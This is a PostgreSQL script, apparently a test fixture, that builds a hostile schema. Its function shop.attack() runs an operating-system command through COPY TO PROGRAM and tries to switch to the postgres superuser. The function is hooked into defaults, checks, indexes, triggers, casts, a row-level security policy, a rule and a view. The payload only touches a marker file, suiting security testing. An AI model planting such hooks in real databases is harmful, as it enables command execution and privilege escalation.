-- A migration that wants a shell: whatever calls shop.attack() as a superuser runs a program of the operating system.
CREATE SCHEMA shop;
CREATE FUNCTION shop.attack(OUT done boolean) LANGUAGE plpgsql SET search_path = pg_catalog AS $attack$
BEGIN
    RAISE LOG 'attack as %, superuser %', current_user, current_setting('is_superuser');
    done := true;
    IF current_setting('is_superuser') = 'on' THEN
        EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch attacked''';
    ELSE
        BEGIN
            EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch attacked''';
        EXCEPTION WHEN insufficient_privilege THEN NULL;
        END;
        BEGIN
            EXECUTE 'SET SESSION AUTHORIZATION postgres';
            EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch attacked''';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END IF;
EXCEPTION WHEN feature_not_supported OR read_only_sql_transaction THEN NULL;
END $attack$;
CREATE FUNCTION shop.pure(anyelement) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
    PERFORM shop.attack();
    RETURN true;
END $$;
CREATE FUNCTION shop.pure(anyelement, anyelement) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
    PERFORM shop.attack();
    RETURN true;
END $$;
CREATE FUNCTION shop.on_rows() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
    PERFORM shop.attack();
    RETURN new;
END $$;
CREATE TYPE shop.mood AS ENUM ('sad', 'glad');
CREATE FUNCTION shop.as_text(shop.mood) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
    PERFORM shop.attack();
    RETURN 'x';
END $$;
CREATE CAST (shop.mood AS text) WITH FUNCTION shop.as_text(shop.mood) AS IMPLICIT;
CREATE DOMAIN shop.checked AS integer CHECK (shop.pure(VALUE));
CREATE TABLE shop.orders (
    id      bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    number  serial,
    amount  shop.checked,
    mood    shop.mood DEFAULT 'sad',
    note    boolean DEFAULT shop.attack(),
    made    boolean GENERATED ALWAYS AS (shop.pure(1)) STORED,
    CONSTRAINT folded CHECK (shop.pure(1)),
    CONSTRAINT hostile CHECK (shop.pure(number))
);
CREATE INDEX hostile ON shop.orders (shop.pure(number)) WHERE shop.pure(number);
CREATE TRIGGER hostile BEFORE INSERT ON shop.orders FOR EACH ROW EXECUTE FUNCTION shop.on_rows();
CREATE CONSTRAINT TRIGGER late AFTER INSERT ON shop.orders DEFERRABLE INITIALLY DEFERRED
    FOR EACH ROW EXECUTE FUNCTION shop.on_rows();
ALTER TABLE shop.orders ENABLE ROW LEVEL SECURITY;
ALTER TABLE shop.orders FORCE ROW LEVEL SECURITY;
CREATE POLICY hostile ON shop.orders USING (shop.attack());
CREATE TABLE shop.by_rule (id integer);
CREATE RULE hostile AS ON INSERT TO shop.by_rule DO ALSO SELECT shop.attack();
CREATE STATISTICS shop.hostile ON (shop.pure(number)), id FROM shop.orders;
CREATE VIEW shop.seen AS SELECT shop.attack();
CREATE MATERIALIZED VIEW shop.kept AS SELECT id FROM shop.orders WITH NO DATA;
